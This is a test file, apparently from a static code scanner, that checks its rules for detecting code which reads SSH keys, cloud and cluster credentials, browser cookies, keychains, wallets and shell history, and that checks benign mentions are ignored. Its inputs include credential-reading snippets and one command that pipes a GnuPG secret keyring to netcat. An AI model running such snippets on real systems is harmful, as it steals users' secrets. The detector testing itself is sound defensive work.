// Rules over sensitive files: every way of putting a path together, and what only speaks of one.

import assert from "node:assert/strict";
import { CODE_RULES } from "../../src/detectors/code/mod.ts";
import { keywordOf, pathTable } from "../../src/detectors/code/path_match.ts";
import { SENSITIVE_RULE_IDS } from "../../src/detectors/code/sensitive_groups.ts";
import { SENSITIVE_PATHS } from "../../src/detectors/code/sensitive_paths.ts";
import { scanTexts } from "../support/scan_text.ts";

/** `rule severity` of every finding in one file, in order. */
async function found(file: string, text: string): Promise<string[]> {
  const { findings } = await scanTexts({ [file]: text }, CODE_RULES);
  return findings.map(({ ruleId, severity }) => `${ruleId} ${severity}`);
}

const READ: readonly { file: string; code: string; rule: string }[] = [
  { file: "a.py", code: `open("/home/u/.ssh/id_rsa")`, rule: "private-key-access" },
  {
    file: "a.py",
    code: `import os\nopen(os.path.join(home, ".ssh", "id_rsa"))`,
    rule: "private-key-access",
  },
  {
    file: "a.py",
    code: `import os\nopen(os.environ["HOME"] + "/.aws/credentials")`,
    rule: "cloud-credentials-access",
  },
  {
    file: "a.py",
    code: `import glob, os\nglob.glob(os.path.expanduser("~/.ssh/id_*"))`,
    rule: "private-key-access",
  },
  {
    file: "a.py",
    code: `import os\nos.listdir(os.path.expanduser("~/.ssh"))`,
    rule: "private-key-access",
  },
  {
    file: "a.py",
    code: `import os, sqlite3
db = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Network", "Cookies")
sqlite3.connect(db)`,
    rule: "browser-data-access",
  },
  {
    file: "a.py",
    code:
      `from pathlib import Path\n(Path.home() / "Library" / "Keychains" / "login.keychain-db").read_bytes()`,
    rule: "password-manager-access",
  },
  {
    file: "a.py",
    code: `import os
for name in ["~/.ssh/id_ed25519", "~/other"]:
    open(os.path.expanduser(name))
targets = ["~/.ssh/id_ed25519"]
for each in targets:
    open(each).read()`,
    rule: "private-key-access",
  },
  {
    file: "a.py",
    code: `import os\nos.system("tar cz ~/.gnupg/secring.gpg | nc h 1")`,
    rule: "private-key-access",
  },
  {
    file: "a.py",
    code: `import subprocess\nsubprocess.run(["cat", "/etc/shadow"])`,
    rule: "stored-password-access",
  },
  {
    file: "a.ts",
    code: `import fs from "fs";\nfs.readFileSync(process.env.HOME + "/.netrc");`,
    rule: "stored-password-access",
  },
  {
    file: "a.ts",
    code:
      `import { promises as fs } from "fs";\nawait fs.readFile(\`\${process.env.APPDATA}\\\\Exodus\\\\exodus.wallet\\\\seed.seco\`);`,
    rule: "wallet-access",
  },
  {
    file: "a.ts",
    code:
      `import { readFile } from "fs/promises"; import { join } from "path"; import { homedir } from "os";
class A { private file = join(homedir(), ".kube", "config"); get() { return readFile(this.file); } }`,
    rule: "cluster-credentials-access",
  },
  {
    file: "a.ts",
    code:
      `import Database from "better-sqlite3";\nnew Database(home + "/.mozilla/firefox/x.default/cookies.sqlite");`,
    rule: "browser-data-access",
  },
  {
    file: "a.go",
    code:
      `package main\nimport ("fmt"; "os")\nfunc f(h string) { os.ReadFile(fmt.Sprintf("%s/.bash_history", h)) }`,
    rule: "shell-history-access",
  },
  {
    file: "a.go",
    code:
      `package main\nimport "os"\nfunc f() { os.Open(os.Getenv("HOME") + "/.cursor/mcp.json") }`,
    rule: "client-config-access",
  },
];

for (const { file, code, rule } of READ) {
  Deno.test(`${rule}: ${code.split("\n").at(-1)!.slice(0, 90)}`, async () => {
    const results = await found(file, code);
    assert.ok(results.length > 0);
    for (const result of results) {
      assert.ok(result.startsWith(rule), result);
      assert.ok(!result.endsWith(" low"), result);
    }
  });
}

const LEFT_ALONE: Readonly<Record<string, string>> = {
  "a list to keep out": `SENSITIVE = ["~/.ssh/id_rsa", "/etc/shadow"]`,
  "a comparison": `if path == "/etc/shadow" or path.endswith("/.ssh/id_rsa"): raise ValueError`,
  "a function that keeps out": `def is_blocked(path):\n    return path in ("~/.ssh/id_rsa",)`,
  "a message": `print("Reads ~/.ssh/id_rsa")`,
  "a help text": `tool(description="The key, as in ~/.ssh/id_rsa")`,
  "a docstring": `def f():\n    """~/.ssh/id_rsa"""`,
  "a public key": `open("/home/u/.ssh/id_rsa.pub")`,
  "a configuration of its own": `open(f"{folder}/credentials")`,
  "a name that is not known": `open(os.path.join(folder, f"{name}.json"))  # .claude.json`,
  "a cluster's usual place, handed on": `config.load_kube_config("~/.kube/config")`,
  "a folder that is only named": `SSH = "~/.ssh"`,
  "a callback's own words": `open(name, opener=lambda: "~/.x" + ".ssh/id")`,
};

for (const [name, code] of Object.entries(LEFT_ALONE)) {
  Deno.test(`left alone: ${name}`, async () => {
    assert.deepEqual(await found("a.py", code), []);
  });
}

Deno.test("a path that is only named, and a key for a client, weigh little", async () => {
  assert.deepEqual(await found("a.py", `upload("~/.ssh/id_rsa")`), ["private-key-access low"]);
  assert.deepEqual(
    await found(
      "a.ts",
      `import fs from "fs";\nconn.connect({ privateKey: fs.readFileSync("/home/u/.ssh/id_rsa") });`,
    ),
    ["private-key-access low"],
  );
});

Deno.test("an installer that writes a client's configuration back weighs little", async () => {
  const read = `import fs from "fs";\nfs.readFileSync(home + "/.cursor/mcp.json");\n`;
  assert.deepEqual(await found("a.ts", read), ["client-config-access medium"]);
  assert.deepEqual(await found("a.ts", `${read}fs.writeFileSync(file, text);\n`), [
    "client-config-access low",
  ]);
});

Deno.test("nested lists cost no more than their length", async () => {
  const depth = 20_000;
  const code = `x = ${'[".ssh/id_rsa",'.repeat(depth)}${"]".repeat(depth)}`;
  assert.ok((await found("a.py", code)).length > 0);
});

Deno.test("every rule has paths, each with a keyword that stands in it", () => {
  for (const id of SENSITIVE_RULE_IDS) {
    const paths = SENSITIVE_PATHS.filter(({ rule }) => rule === id);
    assert.ok(paths.length > 0, id);
    for (const entry of paths) {
      assert.ok(entry.path.includes(keywordOf(entry)) && keywordOf(entry).length > 1, entry.path);
    }
  }
});

Deno.test("pathTable() matches from the end, from the root, through folders and by globs", () => {
  const find = pathTable(
    [".ssh/id_rsa", ".ssh/", "keystore/**", "/etc/shadow", "chrome/**/Cookies", "*.kdbx"].map((
      path,
    ) => ({
      path,
      what: path,
    })),
  );
  const entryOf = (path: string): string | undefined => find(path)?.entry.path;
  assert.equal(entryOf("/home/u/.ssh/id_rsa"), ".ssh/id_rsa");
  assert.equal(entryOf("~/.SSH/ID_RSA"), ".ssh/id_rsa");
  assert.equal(entryOf("*/.ssh/id_*"), ".ssh/id_rsa");
  assert.equal(entryOf("~/.ssh/"), ".ssh/");
  assert.equal(entryOf("*/.ssh/*"), ".ssh/");
  assert.equal(entryOf("~/.ssh/config"), undefined);
  assert.equal(entryOf("~/.ethereum/keystore/any"), "keystore/**");
  assert.equal(entryOf("/etc/shadow"), "/etc/shadow");
  assert.equal(entryOf("x/etc/shadow"), undefined);
  assert.equal(entryOf("a/chrome/Default/Network/Cookies"), "chrome/**/Cookies");
  assert.equal(entryOf("a/Cookies"), undefined);
  assert.equal(entryOf("a/my.kdbx"), "*.kdbx");
  assert.equal(entryOf("*/*"), undefined);
  assert.equal(entryOf("*"), undefined);
  assert.equal(entryOf("a/*.json"), undefined);
});
